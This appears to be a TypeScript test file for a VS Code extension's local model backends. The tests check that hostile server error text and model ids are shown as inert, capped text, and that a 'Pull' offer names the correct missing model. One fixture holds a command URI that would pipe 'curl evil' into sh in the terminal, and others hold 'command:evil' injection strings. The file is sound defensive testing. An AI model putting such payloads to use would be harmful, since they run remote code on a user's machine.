// Issue 14, findings 1 and 16: what a server's error text can do once it reaches a notification, and which model
// a "Pull" offer names. Real backends against the simulator (a test double of Ollama / llama.cpp / OpenAI servers).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { OllamaBackend } from '../../../src/core/backends/ollama';
import { LlamaCppBackend } from '../../../src/core/backends/llamacpp';
import { OpenAIBackend } from '../../../src/core/backends/openai';
import { BackendError } from '../../../src/core/backends/errors';
import { problemFor } from '../../../src/vscode/backendProblems';
import { startSimulator, type Simulator } from '../../sim/index';
import { PHI4_MODEL, QWEN_CODER_MODEL } from '../../sim/types';
import { collect, rawServer, SAMPLING } from '../backends/helpers';

/** What VS Code's notification renderer turns into a link (vs/base/common/linkedText.ts). */
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const HOSTILE = 'model crashed. [Reinstall now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) or [docs](https://evil.example/x)';

const sims: Simulator[] = [];
before(async () => {
  for (const kind of ['ollama', 'llamacpp', 'openai'] as const) sims.push(await startSimulator({ kind, models: [PHI4_MODEL, QWEN_CODER_MODEL], timing: { timeScale: 0 } }));
});
after(async () => {
  for (const s of sims) await s.close();
});

function backendFor(sim: Simulator) {
  const o = { endpoint: sim.url, idleTimeoutMs: 2000 };
  return sim.kind === 'ollama' ? new OllamaBackend({ ...o, keepAlive: '30m' }) : sim.kind === 'llamacpp' ? new LlamaCppBackend(o) : new OpenAIBackend(o);
}

async function failure(run: () => Promise<unknown>): Promise<BackendError> {
  try {
    await run();
  } catch (err) {
    assert.ok(err instanceof BackendError, `a BackendError, got ${String(err)}`);
    return err;
  }
  assert.fail('expected the request to fail');
}

test('a server error with link syntax reaches the notification as inert, capped text (status and mid-stream)', async () => {
  for (const sim of sims) {
    for (const reply of [{ status: 500, error: HOSTILE }, { chunks: ['partial '], error: HOSTILE, errorAfterChunks: 1 }]) {
      sim.setReply(reply);
      const err = await failure(() => collect(backendFor(sim).chat({ model: 'phi4', messages: [{ role: 'user', content: 'q' }], sampling: SAMPLING })));
      assert.match(err.message, /Reinstall now/, `${sim.kind}: the server's words are kept for the log`);
      const problem = problemFor(err, 'chat', 'phi4');
      assert.doesNotMatch(problem.message, LINK, `${sim.kind} ${'status' in reply ? 'HTTP error' : 'mid-stream error'}: no link in ${problem.message}`);
      assert.match(problem.message, /Reinstall now/, 'the words are still shown, as text');
      assert.ok(problem.message.length <= 300);
    }
  }
});

test('a 20 MB error message is cut in the error and to ~300 characters in the notification', async () => {
  const huge = `[x](command:evil) ${'A'.repeat(20 * 1024 * 1024)}`;
  const server = await rawServer((_req, res) => {
    res.writeHead(500, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ error: huge }));
  });
  try {
    for (const backend of [new OllamaBackend({ endpoint: server.url, keepAlive: '30m', idleTimeoutMs: 5000 }), new LlamaCppBackend({ endpoint: server.url, idleTimeoutMs: 5000 })]) {
      const err = await failure(() => collect(backend.complete({ model: 'phi4', prompt: 'p', sampling: SAMPLING })));
      assert.ok(err.message.length <= 2000, `${backend.kind}: error message cut (${err.message.length} chars)`);
      const problem = problemFor(err, 'completion', 'phi4');
      assert.ok(problem.message.length <= 300);
      assert.doesNotMatch(problem.message, LINK);
    }
  } finally {
    await server.close();
  }
});

test('model ids a server lists are validated; link or markup ids are dropped', async () => {
  const server = await rawServer((req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    if (req.url === '/api/tags') res.end(JSON.stringify({ models: [{ name: 'phi4:latest' }, { name: '[Pull](command:evil)' }] }));
    else res.end(JSON.stringify({ object: 'list', data: [{ id: 'phi4' }, { id: 'x](command:evil)' }] }));
  });
  try {
    assert.deepEqual(await new OllamaBackend({ endpoint: server.url, keepAlive: '30m', idleTimeoutMs: 2000 }).listModels(), ['phi4:latest']);
    assert.deepEqual(await new OpenAIBackend({ endpoint: server.url, idleTimeoutMs: 2000 }).listModels(), ['phi4']);
    assert.deepEqual(await new LlamaCppBackend({ endpoint: server.url, idleTimeoutMs: 2000 }).listModels(), ['phi4']);
  } finally {
    await server.close();
  }
});

test('finding 16: a missing completion model is the model the Pull offer names, not the chat model', async () => {
  const sim = sims[0];
  sim.setModels([PHI4_MODEL]);
  try {
    const backend = backendFor(sim);
    const err = await failure(() => collect(backend.complete({ model: QWEN_CODER_MODEL.name, prompt: 'p', sampling: SAMPLING })));
    assert.equal(err.code, 'model-missing');
    assert.equal(err.model, QWEN_CODER_MODEL.name);
    const problem = problemFor(err, 'completion', 'phi4');
    assert.equal(problem.model, QWEN_CODER_MODEL.name);
    assert.equal(problem.key, `model-missing:${QWEN_CODER_MODEL.name}`);
    const info = await failure(() => backend.modelInfo('llama9:7b'));
    assert.equal(problemFor(info, 'startup', 'phi4').model, 'llama9:7b');
  } finally {
    sim.setModels([PHI4_MODEL, QWEN_CODER_MODEL]);
  }
});
